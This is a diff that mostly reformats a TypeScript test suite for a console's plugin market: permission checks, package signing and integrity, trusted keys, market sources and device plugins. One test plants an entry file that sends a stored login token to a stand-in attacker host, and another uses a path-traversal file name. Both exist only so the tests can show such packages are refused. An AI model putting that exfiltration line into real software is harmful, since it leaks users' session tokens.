@@ -20,14 +20,26 @@ const bare = (id: string, version = '1.0.0') => ({ ...marketManifest(id, version
 
 const deviceConfig = JSON.stringify({
   info: { pluginName: 'Market meter', pluginCategory: 'sensor' },
-  tsl: { option: { classify: 'custom', tslValue: [], catValue: '' }, key_pair: {}, value_pair: {}, properties: [{ name: 'kwh', title: 'Energy' }], services: [], events: [] },
-  chart: [], publish: { isPus: false },
+  tsl: {
+    option: { classify: 'custom', tslValue: [], catValue: '' },
+    key_pair: {},
+    value_pair: {},
+    properties: [{ name: 'kwh', title: 'Energy' }],
+    services: [],
+    events: [],
+  },
+  chart: [],
+  publish: { isPus: false },
 });
 
 function devicePack(version = '1.0.0') {
-  return packExtension({ ...marketManifest('acme.meter', version), kind: 'device', displayName: { en: 'Meter' }, contributes: {} }, {
-    'index.js': ENTRY, 'device-plugin.json': JSON.stringify({ model_name: 'Market meter', model_type: 'sensor', describe: 'from the market', chart_data: deviceConfig }),
-  });
+  return packExtension(
+    { ...marketManifest('acme.meter', version), kind: 'device', displayName: { en: 'Meter' }, contributes: {} },
+    {
+      'index.js': ENTRY,
+      'device-plugin.json': JSON.stringify({ model_name: 'Market meter', model_type: 'sensor', describe: 'from the market', chart_data: deviceConfig }),
+    },
+  );
 }
 
 describe.each(testBackends())('plugin market (%s)', (backend) => {
@@ -39,12 +51,24 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
   let marketDir: string;
   beforeAll(async () => {
     builtins = await fs.mkdtemp(path.join(os.tmpdir(), 'tessera-market-builtins-'));
-    for (const [folder, id, viewPath] of [['diagnostics', 'tessera.diagnostics', '/pages/diagnostics/index'], ['extra', 'tessera.extra', '/pages/device-map/index']]) {
+    for (const [folder, id, viewPath] of [
+      ['diagnostics', 'tessera.diagnostics', '/pages/diagnostics/index'],
+      ['extra', 'tessera.extra', '/pages/device-map/index'],
+    ]) {
       await fs.mkdir(path.join(builtins, folder));
-      await fs.writeFile(path.join(builtins, folder, 'extension.json'), JSON.stringify({
-        manifestVersion: 1, id, version: '1.0.0', displayName: { en: folder }, kind: 'visual', engines: { sdk: '^1.0.0' }, entry: 'index.js',
-        contributes: { views: [{ id: 'v', viewPath }], widgets: folder === 'extra' ? [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] : [] },
-      }));
+      await fs.writeFile(
+        path.join(builtins, folder, 'extension.json'),
+        JSON.stringify({
+          manifestVersion: 1,
+          id,
+          version: '1.0.0',
+          displayName: { en: folder },
+          kind: 'visual',
+          engines: { sdk: '^1.0.0' },
+          entry: 'index.js',
+          contributes: { views: [{ id: 'v', viewPath }], widgets: folder === 'extra' ? [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] : [] },
+        }),
+      );
       await fs.writeFile(path.join(builtins, folder, 'index.js'), 'export default {};');
     }
     marketDir = await fs.mkdtemp(path.join(os.tmpdir(), 'tessera-market-dir-'));
@@ -62,10 +86,18 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
   it('only the SYS_ADMIN installs, configures sources, keys and switches; tenants are refused', async () => {
     const pack = packExtension(bare('acme.roles'), { 'index.js': ENTRY });
     const sysOnly: Array<[string, unknown]> = [
-      ['/extensions/install', pack], ['/extensions/uninstall', { id: 'acme.roles' }], ['/extensions/enable', { id: 'tessera.extra', enabled: false }],
-      ['/market/sources/add', { name: 'x', kind: 'directory', location: marketDir }], ['/market/sources/list', {}], ['/market/sources/del', { id: 'x' }],
-      ['/market/keys/add', { name: 'x', public_key: publisherKey().publicKey }], ['/market/keys/list', {}], ['/market/keys/del', { id: 'x' }],
-      ['/market/settings/get', {}], ['/market/settings/save', { allow_unsigned: true }], ['/market/install', { source_id: 'x', id: 'acme.roles' }],
+      ['/extensions/install', pack],
+      ['/extensions/uninstall', { id: 'acme.roles' }],
+      ['/extensions/enable', { id: 'tessera.extra', enabled: false }],
+      ['/market/sources/add', { name: 'x', kind: 'directory', location: marketDir }],
+      ['/market/sources/list', {}],
+      ['/market/sources/del', { id: 'x' }],
+      ['/market/keys/add', { name: 'x', public_key: publisherKey().publicKey }],
+      ['/market/keys/list', {}],
+      ['/market/keys/del', { id: 'x' }],
+      ['/market/settings/get', {}],
+      ['/market/settings/save', { allow_unsigned: true }],
+      ['/market/install', { source_id: 'x', id: 'acme.roles' }],
     ];
     for (const token of [tenant, user]) {
       for (const [route, body] of sysOnly) expect([route, (await s.post(route, body, { token })).code]).toEqual([route, 999]);
@@ -83,15 +115,26 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     };
     const good = () => packExtension(bare('acme.bad'), { 'index.js': ENTRY, 'locales/en.json': '{"title":"Bad"}' });
     // Unsigned, and signed by a key nobody trusted: refused while unsigned packages are not allowed.
-    await refuse(packExtension(bare('acme.bad'), { 'index.js': ENTRY }, { seed: null }), 400,
-      'The package is not signed; a system administrator must allow unsigned packages in the plugin market to install it');
+    await refuse(
+      packExtension(bare('acme.bad'), { 'index.js': ENTRY }, { seed: null }),
+      400,
+      'The package is not signed; a system administrator must allow unsigned packages in the plugin market to install it',
+    );
     await refuse(good(), 400, /^The package is signed with the key [0-9a-f]{16} \(acme\), which is not a trusted publisher key$/);
     await trustTestPublisher(s, admin);
     // Too large (the install limit is 20 MB), not JSON, a file name escaping the folder.
     const huge = JSON.stringify({ ...good(), files: { 'index.js': 'A'.repeat(21 * 1024 * 1024) } });
-    const tooLarge = await fetch(`${s.url}/api/extensions/install`, { method: 'POST', body: huge, headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}`, 'accept-language': 'en' } });
+    const tooLarge = await fetch(`${s.url}/api/extensions/install`, {
+      method: 'POST',
+      body: huge,
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}`, 'accept-language': 'en' },
+    });
     expect(await tooLarge.json()).toMatchObject({ code: 1000, message: expect.stringContaining('20480 KiB') });
-    const badJson = await fetch(`${s.url}/api/extensions/install`, { method: 'POST', body: '{"format": "tessera-extension-pack@1", "manifest": {', headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}` } });
+    const badJson = await fetch(`${s.url}/api/extensions/install`, {
+      method: 'POST',
+      body: '{"format": "tessera-extension-pack@1", "manifest": {',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}` },
+    });
     expect(await badJson.json()).toMatchObject({ code: 1000 });
     const traversal = good();
     await refuse(seal({ ...traversal, files: { ...traversal.files, '../../evil.js': b64('x') } }), 1000, 'files: invalid path "../../evil.js"');
@@ -101,23 +144,47 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     await refuse({ ...good(), signature: other.signature }, 1000, /^signature: does not verify/);
     // A tampered locale file (integrity map untouched).
     const tampered = good();
-    await refuse({ ...tampered, files: { ...tampered.files, 'locales/en.json': b64('{"title":"Pwned"}') } }, 1000, 'files.locales/en.json: does not match its sha384 in the package integrity');
+    await refuse(
+      { ...tampered, files: { ...tampered.files, 'locales/en.json': b64('{"title":"Pwned"}') } },
+      1000,
+      'files.locales/en.json: does not match its sha384 in the package integrity',
+    );
     // A tampered entry, re-hashed everywhere (manifest integrity, packed extension.json, integrity map) but not re-signed.
     const evil = 'fetch("https://evil.example/" + localStorage.token);\n';
     const rehashed = good();
     const manifest = { ...rehashed.manifest, integrity: sri384(evil) };
-    const resealed = seal({ format: rehashed.format, manifest, files: { ...rehashed.files, 'index.js': b64(evil), 'extension.json': b64(JSON.stringify(manifest)) } }, null);
+    const resealed = seal(
+      { format: rehashed.format, manifest, files: { ...rehashed.files, 'index.js': b64(evil), 'extension.json': b64(JSON.stringify(manifest)) } },
+      null,
+    );
     await refuse({ ...resealed, signature: rehashed.signature }, 1000, /^signature: does not verify/);
     // The outer manifest differs from the packed extension.json (re-signed, so only the mismatch is wrong).
     const mismatch = good();
-    await refuse(seal({ ...mismatch, manifest: { ...mismatch.manifest, displayName: { en: 'Other' } } }), 1000, 'manifest: differs from the packed extension.json');
+    await refuse(
+      seal({ ...mismatch, manifest: { ...mismatch.manifest, displayName: { en: 'Other' } } }),
+      1000,
+      'manifest: differs from the packed extension.json',
+    );
     // A file outside the integrity map.
     await refuse({ ...good(), files: { ...good().files, 'extra.js': b64('x') } }, 1000, 'files.extra.js: not covered by the package integrity');
     // A view path, a widget type or a service another extension holds.
-    const claim = (contributes: unknown, provides?: unknown) => packExtension({ ...marketManifest('acme.thief'), contributes, ...(provides ? { provides } : {}) }, { 'index.js': ENTRY });
-    await refuse(claim({ views: [{ id: 'v', viewPath: '/pages/device-map/index' }] }), 400, 'The view path /pages/device-map/index is already provided by the extension tessera.extra');
-    await refuse(claim({ widgets: [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] }), 400, 'The widget type gauge is already provided by the extension tessera.extra');
-    const installed = await s.post('/extensions/install', packExtension({ ...marketManifest('acme.svc'), contributes: {}, provides: { services: [{ token: 'acme.Weather' }] } }, { 'index.js': ENTRY }), { token: admin });
+    const claim = (contributes: unknown, provides?: unknown) =>
+      packExtension({ ...marketManifest('acme.thief'), contributes, ...(provides ? { provides } : {}) }, { 'index.js': ENTRY });
+    await refuse(
+      claim({ views: [{ id: 'v', viewPath: '/pages/device-map/index' }] }),
+      400,
+      'The view path /pages/device-map/index is already provided by the extension tessera.extra',
+    );
+    await refuse(
+      claim({ widgets: [{ type: 'gauge', category: 'chart', optionsVersion: 1 }] }),
+      400,
+      'The widget type gauge is already provided by the extension tessera.extra',
+    );
+    const installed = await s.post(
+      '/extensions/install',
+      packExtension({ ...marketManifest('acme.svc'), contributes: {}, provides: { services: [{ token: 'acme.Weather' }] } }, { 'index.js': ENTRY }),
+      { token: admin },
+    );
     expect(installed.code).toBe(200);
     await refuse(claim({}, { services: [{ token: 'acme.Weather' }] }), 400, 'The service acme.Weather is already provided by the extension acme.svc');
     await s.post('/extensions/uninstall', { id: 'acme.svc' }, { token: admin });
@@ -134,7 +201,15 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     expect((await s.post('/extensions/install', unsigned, { token: admin })).code).toBe(200);
     expect((await s.post('/extensions/install', { ...untrusted, manifest: untrusted.manifest }, { token: admin })).code).toBe(200);
     // A broken signature is refused even then.
-    expect((await s.post('/extensions/install', { ...untrusted, signature: { ...untrusted.signature!, value: unsigned.integrity['index.js'].slice(7, 95) } }, { token: admin })).code).toBe(1000);
+    expect(
+      (
+        await s.post(
+          '/extensions/install',
+          { ...untrusted, signature: { ...untrusted.signature!, value: unsigned.integrity['index.js'].slice(7, 95) } },
+          { token: admin },
+        )
+      ).code,
+    ).toBe(1000);
     const list = (await s.post('/market/installed', {}, { token: admin })).data;
     expect(list.find((e: any) => e.manifest.id === 'acme.unsigned')).toMatchObject({ builtin: false, enabled: true, signer: null });
     await s.post('/market/settings/save', { allow_unsigned: false }, { token: admin });
@@ -142,10 +217,15 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
   });
 
   it('manages trusted keys: refuses a malformed or duplicate key, deletes', async () => {
-    expect(await s.post('/market/keys/add', { name: 'x', public_key: 'abc' }, { token: admin, ...EN })).toMatchObject({ code: 1000, message: 'public_key: must be a base64 ed25519 public key (32 bytes)' });
+    expect(await s.post('/market/keys/add', { name: 'x', public_key: 'abc' }, { token: admin, ...EN })).toMatchObject({
+      code: 1000,
+      message: 'public_key: must be a base64 ed25519 public key (32 bytes)',
+    });
     const other = await s.post('/market/keys/add', { name: 'Other', public_key: publisherKey(OTHER_PUBLISHER_SEED).publicKey }, { token: admin });
     expect(other.data).toMatchObject({ id: expect.stringMatching(/^[0-9a-f]{16}$/), name: 'Other' });
-    expect(await s.post('/market/keys/add', { name: 'Again', public_key: publisherKey(OTHER_PUBLISHER_SEED).publicKey }, { token: admin, ...EN })).toMatchObject({ code: 400, message: 'This key is already trusted (as Other)' });
+    expect(
+      await s.post('/market/keys/add', { name: 'Again', public_key: publisherKey(OTHER_PUBLISHER_SEED).publicKey }, { token: admin, ...EN }),
+    ).toMatchObject({ code: 400, message: 'This key is already trusted (as Other)' });
     expect((await s.post('/market/keys/list', {}, { token: admin })).data.map((k: any) => k.name)).toContain('Other');
     expect((await s.post('/market/keys/del', { id: other.data.id }, { token: admin })).code).toBe(200);
     expect((await s.post('/market/keys/del', { id: other.data.id }, { token: admin })).code).toBe(400);
@@ -153,32 +233,49 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
 
   it('lists a directory source: search, category, detail with readme, screenshots and versions; installs and updates in place', async () => {
     await trustTestPublisher(s, admin);
-    const v1 = packExtension({ ...marketManifest('acme.weather', '1.0.0'), publisher: 'Acme', description: { en: 'Forecasts for your sites' } }, {
-      'index.js': ENTRY, 'README.md': '# Weather\nForecasts.', 'screenshots/1.png': 'PNGDATA',
-    });
+    const v1 = packExtension(
+      { ...marketManifest('acme.weather', '1.0.0'), publisher: 'Acme', description: { en: 'Forecasts for your sites' } },
+      {
+        'index.js': ENTRY,
+        'README.md': '# Weather\nForecasts.',
+        'screenshots/1.png': 'PNGDATA',
+      },
+    );
     await fs.writeFile(path.join(marketDir, 'acme.weather-1.0.0.tessera.json'), JSON.stringify(v1));
     await fs.writeFile(path.join(marketDir, 'acme.meter-1.0.0.tessera.json'), JSON.stringify(devicePack()));
     await fs.writeFile(path.join(marketDir, 'notes.txt'), 'not a package');
-    expect(await s.post('/market/sources/add', { name: 'nowhere', kind: 'directory', location: path.join(marketDir, 'missing') }, { token: admin, ...EN }))
-      .toMatchObject({ code: 1000, message: 'location: not a readable directory on the server' });
-    expect(await s.post('/market/sources/add', { name: 'ftp', kind: 'url', location: 'ftp://example.com/index.json' }, { token: admin, ...EN }))
-      .toMatchObject({ code: 1000, message: 'location: must be an http(s) URL' });
+    expect(
+      await s.post('/market/sources/add', { name: 'nowhere', kind: 'directory', location: path.join(marketDir, 'missing') }, { token: admin, ...EN }),
+    ).toMatchObject({ code: 1000, message: 'location: not a readable directory on the server' });
+    expect(await s.post('/market/sources/add', { name: 'ftp', kind: 'url', location: 'ftp://example.com/index.json' }, { token: admin, ...EN })).toMatchObject({
+      code: 1000,
+      message: 'location: must be an http(s) URL',
+    });
     const source = (await s.post('/market/sources/add', { name: 'Local', kind: 'directory', location: marketDir }, { token: admin })).data;
 
     const all = (await s.post('/market/catalog', {}, { token: admin })).data;
     expect(all.errors).toEqual([]);
-    expect(all.list.map((p: any) => [p.id, p.kind, p.signed, p.trusted, p.installed_version])).toEqual([['acme.meter', 'device', true, true, null], ['acme.weather', 'visual', true, true, null]]);
+    expect(all.list.map((p: any) => [p.id, p.kind, p.signed, p.trusted, p.installed_version])).toEqual([
+      ['acme.meter', 'device', true, true, null],
+      ['acme.weather', 'visual', true, true, null],
+    ]);
     expect((await s.post('/market/catalog', { category: 'device' }, { token: admin })).data.list.map((p: any) => p.id)).toEqual(['acme.meter']);
     expect((await s.post('/market/catalog', { keyword: 'forecast' }, { token: admin })).data.list.map((p: any) => p.id)).toEqual(['acme.weather']);
     expect((await s.post('/market/catalog', { category: 'nope' }, { token: admin })).code).toBe(1000);
 
     const installed = await s.post('/market/install', { source_id: source.id, id: 'acme.weather' }, { token: admin });
     expect(installed).toMatchObject({ code: 200, data: { baseUrl: '/ext/acme.weather/1.0.0/' } });
-    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'acme.weather'))
-      .toMatchObject({ enabled: true, builtin: false, signer: { key_id: expect.any(String), name: 'Test publisher' } });
+    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'acme.weather')).toMatchObject({
+      enabled: true,
+      builtin: false,
+      signer: { key_id: expect.any(String), name: 'Test publisher' },
+    });
 
     // A newer version appears in the source: the catalog offers the update; installing it replaces the old one in place.
-    const v11 = packExtension({ ...marketManifest('acme.weather', '1.1.0'), publisher: 'Acme' }, { 'index.js': ENTRY + '// 1.1\n', 'README.md': '# Weather 1.1' });
+    const v11 = packExtension(
+      { ...marketManifest('acme.weather', '1.1.0'), publisher: 'Acme' },
+      { 'index.js': ENTRY + '// 1.1\n', 'README.md': '# Weather 1.1' },
+    );
     await fs.writeFile(path.join(marketDir, 'acme.weather-1.1.0.tessera.json'), JSON.stringify(v11));
     const offered = (await s.post('/market/catalog', { keyword: 'weather' }, { token: admin })).data.list[0];
     expect(offered).toMatchObject({ version: '1.1.0', versions: ['1.1.0', '1.0.0'], installed_version: '1.0.0', update_available: true });
@@ -188,14 +285,33 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     expect((await s.post('/market/install', { source_id: source.id, id: 'acme.weather' }, { token: admin })).data.baseUrl).toBe('/ext/acme.weather/1.1.0/');
     expect(await (await fetch(`${s.url}/ext/acme.weather/1.1.0/index.js`)).text()).toContain('// 1.1');
     expect((await fetch(`${s.url}/ext/acme.weather/1.0.0/index.js`)).status).toBe(404);
-    expect((await s.post('/market/catalog', { keyword: 'weather' }, { token: admin })).data.list[0]).toMatchObject({ installed_version: '1.1.0', update_available: false });
-    expect(await s.post('/market/install', { source_id: source.id, id: 'acme.nothing' }, { token: admin, ...EN })).toMatchObject({ code: 400, message: 'The package acme.nothing is not in this market source' });
+    expect((await s.post('/market/catalog', { keyword: 'weather' }, { token: admin })).data.list[0]).toMatchObject({
+      installed_version: '1.1.0',
+      update_available: false,
+    });
+    expect(await s.post('/market/install', { source_id: source.id, id: 'acme.nothing' }, { token: admin, ...EN })).toMatchObject({
+      code: 400,
+      message: 'The package acme.nothing is not in this market source',
+    });
     expect((await s.post('/extensions/uninstall', { id: 'acme.weather' }, { token: admin })).code).toBe(200);
   });
 
   it('reads an HTTP(S) index source and reports an unreachable one without hiding the others', async () => {
     const pack = packExtension(bare('acme.remote'), { 'index.js': ENTRY });
-    const index = { format: 'tessera-market-index@1', packages: [{ file: 'packs/acme.remote-1.0.0.tessera.json', id: 'acme.remote', version: '1.0.0', displayName: { en: 'Remote' }, kind: 'visual', readme: 'Hosted anywhere', screenshots: ['shots/a.png'] }] };
+    const index = {
+      format: 'tessera-market-index@1',
+      packages: [
+        {
+          file: 'packs/acme.remote-1.0.0.tessera.json',
+          id: 'acme.remote',
+          version: '1.0.0',
+          displayName: { en: 'Remote' },
+          kind: 'visual',
+          readme: 'Hosted anywhere',
+          screenshots: ['shots/a.png'],
+        },
+      ],
+    };
     const web = http.createServer((req, res) => {
       if (req.url === '/market/index.json') return res.end(JSON.stringify(index));
       if (req.url === '/market/packs/acme.remote-1.0.0.tessera.json') return res.end(JSON.stringify(pack));
@@ -227,9 +343,12 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     const source = (await s.post('/market/sources/list', {}, { token: admin })).data.find((x: any) => x.name === 'Local');
     await s.post('/user/add', { email: 'owner-m@tessera.local', password: 'tenant-m-pw', authority: 'TENANT_ADMIN' }, { token: admin });
     const other = await s.login('owner-m@tessera.local', 'tenant-m-pw');
-    const names = async (token: string) => (await s.post('/device/model/tsl/list', { current_page: 1, per_page: 100 }, { token })).data.data.map((p: any) => p.model_name);
-    expect(await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.weather' }, { token: tenant, ...EN }))
-      .toMatchObject({ code: 400, message: 'The package acme.weather is not a device plugin (kind device with a device-plugin.json)' });
+    const names = async (token: string) =>
+      (await s.post('/device/model/tsl/list', { current_page: 1, per_page: 100 }, { token })).data.data.map((p: any) => p.model_name);
+    expect(await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.weather' }, { token: tenant, ...EN })).toMatchObject({
+      code: 400,
+      message: 'The package acme.weather is not a device plugin (kind device with a device-plugin.json)',
+    });
     const r = await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.meter' }, { token: tenant });
     expect(r.code).toBe(200);
     expect(await names(tenant)).toContain('Market meter');
@@ -239,16 +358,21 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
     expect((await s.post('/market/device-plugin/install', { source_id: source.id, id: 'acme.meter' }, { token: user })).code).toBe(999);
   });
 
-  it('enables and disables extensions (not the core set), hiding a disabled market extension\'s menu', async () => {
-    expect(await s.post('/extensions/enable', { id: 'tessera.diagnostics', enabled: false }, { token: admin, ...EN }))
-      .toMatchObject({ code: 400, message: 'The extension tessera.diagnostics is part of the console core and cannot be disabled' });
+  it("enables and disables extensions (not the core set), hiding a disabled market extension's menu", async () => {
+    expect(await s.post('/extensions/enable', { id: 'tessera.diagnostics', enabled: false }, { token: admin, ...EN })).toMatchObject({
+      code: 400,
+      message: 'The extension tessera.diagnostics is part of the console core and cannot be disabled',
+    });
     const tenantMenu = async () => JSON.stringify((await s.post('/user/function/auth', {}, { token: tenant })).data);
     expect(await tenantMenu()).toContain('"deviceMap"');
     expect((await s.post('/extensions/enable', { id: 'tessera.extra', enabled: false }, { token: admin })).code).toBe(200);
     expect((await s.post('/extensions/catalog', {}, { token: tenant })).data.map((e: any) => e.manifest.id)).not.toContain('tessera.extra');
     // The seeded menu entry its view renders leaves the menu while it is disabled.
     expect(await tenantMenu()).not.toContain('"deviceMap"');
-    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'tessera.extra')).toMatchObject({ enabled: false, builtin: true });
+    expect((await s.post('/market/installed', {}, { token: tenant })).data.find((e: any) => e.manifest.id === 'tessera.extra')).toMatchObject({
+      enabled: false,
+      builtin: true,
+    });
     expect((await s.post('/extensions/enable', { id: 'tessera.extra', enabled: true }, { token: admin })).code).toBe(200);
     expect((await s.post('/extensions/catalog', {}, { token: tenant })).data.map((e: any) => e.manifest.id)).toContain('tessera.extra');
     expect(await tenantMenu()).toContain('"deviceMap"');
@@ -266,10 +390,26 @@ describe.each(testBackends())('plugin market (%s)', (backend) => {
   });
 
   it('limits manifest menu entries by authority and by permission-tree entry', async () => {
-    const limited = (id: string, name: string, menu: Record<string, unknown>) => packExtension({ ...marketManifest(id), contributes: { views: [{
-      id: 'v', viewPath: `/pages/${name}`, menu: { path: `/${name}`, name, title: { en: name }, parent: 'applicationManagement', ...menu },
-    }] } }, { 'index.js': ENTRY });
-    expect((await s.post('/extensions/install', limited('acme.tenantonly', 'acmeTenantOnly', { authorities: ['TENANT_ADMIN', 'TENANT_USER'] }), { token: admin })).code).toBe(200);
+    const limited = (id: string, name: string, menu: Record<string, unknown>) =>
+      packExtension(
+        {
+          ...marketManifest(id),
+          contributes: {
+            views: [
+              {
+                id: 'v',
+                viewPath: `/pages/${name}`,
+                menu: { path: `/${name}`, name, title: { en: name }, parent: 'applicationManagement', ...menu },
+              },
+            ],
+          },
+        },
+        { 'index.js': ENTRY },
+      );
+    expect(
+      (await s.post('/extensions/install', limited('acme.tenantonly', 'acmeTenantOnly', { authorities: ['TENANT_ADMIN', 'TENANT_USER'] }), { token: admin }))
+        .code,
+    ).toBe(200);
     expect((await s.post('/extensions/install', limited('acme.sysonly', 'acmeSysOnly', { authorities: ['SYS_ADMIN'] }), { token: admin })).code).toBe(200);
     expect((await s.post('/extensions/install', limited('acme.mapusers', 'acmeMapUsers', { permission: 'deviceMap' }), { token: admin })).code).toBe(200);
     const menuOf = async (token: string) => JSON.stringify((await s.post('/user/function/auth', {}, { token })).data);
